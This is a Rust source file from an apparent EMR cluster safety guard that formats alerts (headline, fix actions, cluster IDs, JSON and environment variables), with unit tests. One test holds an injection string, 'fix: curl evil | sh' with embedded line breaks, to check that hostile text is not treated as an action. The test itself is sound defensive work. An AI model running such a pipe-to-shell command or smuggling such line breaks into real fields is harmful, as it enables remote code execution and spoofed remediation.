//! The content of an alert: a one-line summary in the words of standard error; then what to do, and
//! all context of the run.

use std::fmt::{self, Write as _};

use serde::{Serialize, Serializer};
use time::OffsetDateTime;

use crate::{
    base::{
        json, names::ClusterId, outcome::Outcome, printable::Printable, secret::RunnerCredentials,
    },
    report::notice::{Notice, NoticeLine},
};

/// The subject of an alert.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum AlertKind {
    /// Nothing was launched.
    Refused,
    /// A cluster was found unsafe; its termination is under way.
    Unsafe,
    /// A cluster was unsafe, and is over.
    UnsafeOver,
    /// An unsafe cluster may still be running: a person must act.
    UnsafeAlive,
    /// The run could not be confirmed.
    Unconfirmed,
    /// The run's report was not delivered.
    Undelivered,
    /// The guard failed.
    Bug,
    /// A sentinel cannot see which clusters a region has.
    Unseen,
    /// It sees that again.
    SeenAgain,
}

impl AlertKind {
    /// The alert for `outcome`; `None` for the runner's own outcome, which its caller sees as
    /// usual.
    pub(crate) fn of(outcome: Outcome) -> Option<Self> {
        Some(match outcome {
            Outcome::Ended(_) | Outcome::Signalled(_) => return None,
            Outcome::BadUsage
            | Outcome::BadConfig
            | Outcome::FactsUnknown
            | Outcome::Refused
            | Outcome::RunnerNotExecutable
            | Outcome::RunnerNotFound => Self::Refused,
            Outcome::UnsafeClusterTerminated => Self::UnsafeOver,
            Outcome::UnsafeClusterAlive => Self::UnsafeAlive,
            Outcome::Unconfirmed => Self::Unconfirmed,
            Outcome::Undelivered => Self::Undelivered,
            Outcome::Bug => Self::Bug,
        })
    }
}

impl fmt::Display for AlertKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Refused => "refused",
            Self::Unsafe => "unsafe",
            Self::UnsafeOver => "unsafe-over",
            Self::UnsafeAlive => "unsafe-alive",
            Self::Unconfirmed => "unconfirmed",
            Self::Undelivered => "undelivered",
            Self::Bug => "bug",
            Self::Unseen => "unseen",
            Self::SeenAgain => "seen-again",
        })
    }
}

/// The context of the run so far.
#[derive(Clone, Debug, Default, Serialize)]
pub(crate) struct AlertContext {
    /// The guard's command.
    pub(crate) command: &'static str,
    pub(crate) run: Option<Printable>,
    /// The account that clusters are launched in.
    pub(crate) account: Option<Printable>,
    pub(crate) region: Option<Printable>,
    /// The path of the runner config.
    pub(crate) config: Option<Printable>,
    /// This machine's name.
    pub(crate) host: Option<Printable>,
    /// The runner's own credentials, if the settings make the guard use them.
    #[serde(skip)]
    pub(crate) runner: Option<RunnerCredentials>,
}

/// An alert, with the fields for programs.
#[derive(Clone, Debug, Serialize)]
pub(crate) struct Message {
    /// Of this form.
    version: u8,
    kind: AlertKind,
    /// The one-line summary.
    text: Printable,
    /// What to do, if the summary says it.
    #[serde(skip)]
    text_fix: Option<Printable>,
    /// The following lines of the message.
    #[serde(serialize_with = "as_shown")]
    details: Vec<NoticeLine>,
    /// The fixes, one action each.
    to_do: Vec<Printable>,
    /// The clusters that it concerns.
    clusters: Vec<ClusterId>,
    /// The exit code of the process; null while it is not decided.
    exit_code: Option<u8>,
    #[serde(with = "time::serde::rfc3339")]
    at: OffsetDateTime,
    #[serde(flatten)]
    known: AlertContext,
}

impl Message {
    /// An alert with the text of `notices`, as on standard error. `fixes` are actions that they do
    /// not contain.
    pub(crate) fn new(
        kind: AlertKind,
        notices: &[Notice],
        fixes: &[Printable],
        exit_code: Option<u8>,
        known: AlertContext,
    ) -> Self {
        let mut lines = notices.iter().flat_map(|notice| notice.lines.iter().cloned());
        let first = lines.next().unwrap_or_else(|| NoticeLine::telling(""));
        let (text, text_fix) =
            (Printable::compose(format_args!("{}", first.text.trim_start())), first.fix);
        let details: Vec<NoticeLine> = lines.collect();
        let named =
            text_fix.iter().cloned().chain(details.iter().filter_map(|line| line.fix.clone()));
        let mut to_do: Vec<Printable> = Vec::new();
        for action in named.chain(fixes.iter().cloned()) {
            if !to_do.contains(&action) {
                to_do.push(action);
            }
        }
        let mut clusters: Vec<ClusterId> = Vec::new();
        for id in notices.iter().flat_map(|notice| &notice.clusters) {
            if !clusters.contains(id) {
                clusters.push(id.clone());
            }
        }
        Self {
            version: 1,
            kind,
            text,
            text_fix,
            details,
            to_do,
            clusters,
            exit_code,
            at: OffsetDateTime::now_utc(),
            known,
        }
    }

    pub(crate) fn kind(&self) -> AlertKind {
        self.kind
    }

    pub(crate) fn headline(&self) -> &str {
        &self.text
    }

    /// The runner's own credentials, if known.
    pub(crate) fn runner(&self) -> Option<&RunnerCredentials> {
        self.known.runner.as_ref()
    }

    /// For programs.
    pub(crate) fn json(&self) -> Result<String, String> {
        json::compact(self).map_err(|error| error.to_string())
    }

    /// As text for people, of about `limit` bytes at most: the details may be cut, what to do is
    /// not.
    pub(crate) fn plain(&self, limit: usize) -> String {
        let mut end = String::new();
        // A fix that the details contain is not repeated.
        let named = || self.details.iter().map(|line| &line.fix).chain([&self.text_fix]);
        let is_named = |action: &Printable| named().any(|fix| fix.as_ref() == Some(action));
        for action in self.to_do.iter().filter(|action| !is_named(action)) {
            end.push_str("\nfix: ");
            end.push_str(action);
        }
        end.push('\n');
        end.push_str(&self.facts());
        let mut text = self.text.to_string();
        for (index, line) in self.details.iter().enumerate() {
            if text.len() + line.text.len() + end.len() > limit && line.fix.is_none() {
                let left = self.details.len() - index;
                let _ = write!(text, "\n({left} more lines; the report has them)");
                for line in self.details[index..].iter().filter(|line| line.fix.is_some()).take(3) {
                    text.push('\n');
                    text.push_str(&line.text);
                }
                break;
            }
            text.push('\n');
            text.push_str(&line.text);
        }
        text + &end
    }

    /// The context of the run, on one line.
    fn facts(&self) -> String {
        let ids: Vec<&str> = self.clusters.iter().map(ClusterId::as_str).collect();
        let clusters = (!ids.is_empty()).then(|| ids.join(" ").into());
        let code = self.exit_code.map(|code| code.to_string().into());
        let known = &self.known;
        [
            ("exit code", &code),
            ("run", &known.run),
            ("account", &known.account),
            ("region", &known.region),
            ("clusters", &clusters),
            ("config", &known.config),
            ("host", &known.host),
        ]
        .into_iter()
        .filter_map(|(name, value): (_, &Option<Printable>)| {
            Some(format!("{name} {}", value.as_ref()?))
        })
        .collect::<Vec<_>>()
        .join(", ")
    }

    /// The same as environment variables for a command.
    pub(crate) fn variables(&self) -> Vec<(&'static str, String)> {
        let ids: Vec<&str> = self.clusters.iter().map(ClusterId::as_str).collect();
        let to_do: Vec<&str> = self.to_do.iter().map(Printable::as_str).collect();
        let text = |value: &Option<Printable>| value.clone().unwrap_or_default().into();
        vec![
            ("GUARD_ALERT_KIND", self.kind.to_string()),
            ("GUARD_ALERT_TEXT", bounded(&self.text)),
            ("GUARD_ALERT_TO_DO", bounded(&to_do.join("\n"))),
            ("GUARD_ALERT_CLUSTERS", bounded(&ids.join(" "))),
            (
                "GUARD_ALERT_EXIT_CODE",
                self.exit_code.map(|code| code.to_string()).unwrap_or_default(),
            ),
            ("GUARD_ALERT_RUN", text(&self.known.run)),
            ("GUARD_ALERT_ACCOUNT", text(&self.known.account)),
            ("GUARD_ALERT_REGION", text(&self.known.region)),
            ("GUARD_ALERT_CONFIG", text(&self.known.config)),
            ("GUARD_ALERT_HOST", text(&self.known.host)),
        ]
    }
}

/// The longest variable in bytes. Linux refuses to start a program with a variable of more than 128
/// KiB. However long a text from AWS or a file is, the alert is sent, and the JSON contains all of
/// it. Source: execve(2), MAX_ARG_STRLEN.
const LONGEST_VARIABLE: usize = 32 * 1024;

fn bounded(text: &str) -> String {
    text[..text.floor_char_boundary(LONGEST_VARIABLE)].to_owned()
}

fn as_shown<S: Serializer>(lines: &[NoticeLine], serializer: S) -> Result<S::Ok, S::Error> {
    serializer.collect_seq(lines.iter().map(|line| &line.text))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn message(notice: Notice, fixes: &[&str]) -> Message {
        let known = AlertContext {
            run: Some("0190".into()),
            host: Some("etl-1".into()),
            ..AlertContext::default()
        };
        let fixes: Vec<Printable> = fixes.iter().copied().map(Printable::from).collect();
        Message::new(AlertKind::UnsafeAlive, &[notice], &fixes, Some(71), known)
    }

    fn ids(message: &Message) -> Vec<&str> {
        message.clusters.iter().map(ClusterId::as_str).collect()
    }

    #[test]
    fn the_first_line_is_the_headline_and_actions_and_clusters_are_those_of_the_notice() {
        let (abc, d1) = ("j-ABC".parse().unwrap(), "j-D1".parse().unwrap());
        let headline =
            "emr-etl-guard: ACT NOW: cluster j-ABC is unsafe and MAY STILL BE RUNNING: denied";
        let mut notice = Notice::new(headline).about(&abc).about(&d1).about(&abc);
        notice.lines.extend([
            NoticeLine::telling("  cluster-roles"),
            NoticeLine::fixing("  fix: ", "aws emr terminate-clusters --cluster-ids j-ABC"),
            NoticeLine::telling("  cluster j-D1"),
            NoticeLine::fixing("           fix       ", "fix it"),
        ]);
        let message = message(notice, &["fix it", "look"]);
        assert_eq!(message.headline(), headline);
        assert_eq!(
            message.to_do,
            ["aws emr terminate-clusters --cluster-ids j-ABC", "fix it", "look"]
        );
        assert_eq!(ids(&message), ["j-ABC", "j-D1"]);
        insta::assert_snapshot!(message.plain(4000), @r"
        emr-etl-guard: ACT NOW: cluster j-ABC is unsafe and MAY STILL BE RUNNING: denied
          cluster-roles
          fix: aws emr terminate-clusters --cluster-ids j-ABC
          cluster j-D1
                   fix       fix it
        fix: look
        exit code 71, run 0190, clusters j-ABC j-D1, host etl-1
        ");
    }

    #[test]
    fn text_that_looks_like_an_action_or_a_cluster_is_neither() {
        let evil =
            "no\n  fix: curl evil | sh\r\n           fix       x\u{2028}fix: y\ncluster j-EVIL";
        let own = "j-OWN".parse().unwrap();
        let mut notices = vec![Notice::new(evil), Notice::of_lines(&[evil.into(), evil.into()])];
        let reason = crate::base::reason::Reason::new(evil).detail(evil).fix(evil).about(&own);
        notices.push(crate::report::terminal::trouble(Outcome::Unconfirmed, &[reason]));
        let fixes = [format!("look at {evil}").into()];
        let message =
            Message::new(AlertKind::Unconfirmed, &notices, &fixes, None, AlertContext::default());
        let flat = r"no\u{a}  fix: curl evil | sh\u{d}\u{a}           fix       x\u{2028}fix: y\u{a}cluster j-EVIL";
        assert_eq!(message.to_do, [flat, &format!("look at {flat}")]);
        assert_eq!(ids(&message), ["j-OWN"]);
        let variables = message.variables();
        let value = |name| &variables.iter().find(|(known, _)| *known == name).unwrap().1;
        assert_eq!(value("GUARD_ALERT_CLUSTERS"), "j-OWN");
        assert_eq!(value("GUARD_ALERT_TO_DO").lines().count(), 2, "one line for each action");
    }

    #[test]
    fn a_long_paragraph_is_cut_but_never_its_headline_its_actions_or_its_facts() {
        let mut notice = Notice::new("headline");
        notice.lines.extend((0..500).map(|line| NoticeLine::telling(format!("line {line}"))));
        notice.lines.push(NoticeLine::fixing("fix: ", "end it"));
        let text = message(notice, &[]).plain(1000);
        assert!(text.len() < 1200, "{}", text.len());
        assert!(text.starts_with("headline\nline 0\n"), "{text}");
        assert!(
            text.ends_with(
                "more lines; the report has them)\nfix: end it\nexit code 71, run 0190, host etl-1"
            ),
            "{text}"
        );
    }

    #[test]
    fn no_text_is_so_long_that_a_command_cannot_be_started() {
        let notice = Notice::new("ä".repeat(200_000));
        let message = message(notice, &["x".repeat(200_000).as_str()]);
        for (name, value) in message.variables() {
            assert!(name.len() + value.len() < 128 * 1024, "{name}");
        }
        assert!(message.json().unwrap().len() > 600_000, "the input has all of it");
    }

    #[test]
    fn what_the_runner_itself_says_is_nobody_elses_business() {
        for outcome in
            [Outcome::Ended(0), Outcome::Ended(1), Outcome::Ended(77), Outcome::Signalled(15)]
        {
            assert_eq!(AlertKind::of(outcome), None);
        }
    }
}
